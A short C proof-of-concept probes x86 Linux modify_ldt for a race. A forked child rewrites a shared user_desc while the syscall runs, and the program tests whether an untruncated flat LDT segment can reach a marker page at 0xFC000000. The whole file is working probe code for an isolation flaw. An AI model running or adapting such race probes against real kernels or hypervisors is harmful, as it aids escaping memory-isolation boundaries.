/* ldt_shared_race: modify_ldt(1) of a flat LDT entry whose struct user_desc lies in a MAP_SHARED page
 * that a forked child keeps writing the flat limit into (another process: not a thread of this one).
 * Prints HOLE REACHED if an untruncated LDT entry reaches the page mapped at 0xFC000000. */
#define _GNU_SOURCE
#include <asm/ldt.h>
#include <signal.h>
#include <stdio.h>
#include <string.h>
#include <sys/mman.h>
#include <sys/syscall.h>
#include <sys/wait.h>
#include <unistd.h>

int main(void)
{
    unsigned *hole = mmap((void *)0xFC000000, 4096, PROT_READ | PROT_WRITE, MAP_PRIVATE | MAP_ANONYMOUS | MAP_FIXED,
                          -1, 0);
    struct user_desc *d = mmap(NULL, 4096, PROT_READ | PROT_WRITE, MAP_SHARED | MAP_ANONYMOUS, -1, 0);
    if (hole == MAP_FAILED || d == MAP_FAILED) { perror("mmap"); return 1; }
    hole[0] = 0xC0FFEE;
    memset(d, 0, sizeof *d);
    d->entry_number = 0; d->limit = 0xFFFFF; d->seg_32bit = 1; d->limit_in_pages = 1; d->useable = 1;
    pid_t writer = fork();
    if (writer == 0) {
        volatile unsigned *lim = &d->limit;
        for (;;) *lim = 0xFFFFF;
    }
    int refused = 0;
    for (int i = 0; i < 3000; i++) {
        d->limit = 0xFFFFF;
        if (syscall(SYS_modify_ldt, 1, d, sizeof *d) < 0) { refused++; continue; }
        unsigned lim = 0, ok = 0;
        __asm__ volatile("mov $0x7, %%ecx\n\tlsl %%ecx, %0\n\tsetz %b1" : "=r"(lim), "=q"(ok) : : "ecx");
        if (ok && lim == 0xFFFFFFFFu) {
            unsigned v;
            __asm__ volatile("mov $0x7, %%eax\n\tmov %%eax, %%fs\n\tmov %%fs:0xFC000000, %%eax\n\tmov %%eax, %0"
                             : "=r"(v) : : "eax", "memory");
            printf("attempt %d: LDT 0 limit %#x; read %#x through 0x7:0xFC000000: HOLE REACHED\n", i, lim, v);
            kill(writer, SIGKILL);
            return 0;
        }
    }
    kill(writer, SIGKILL);
    waitpid(writer, NULL, 0);
    printf("no hole (%d refused)\n", refused);
    return 0;
}
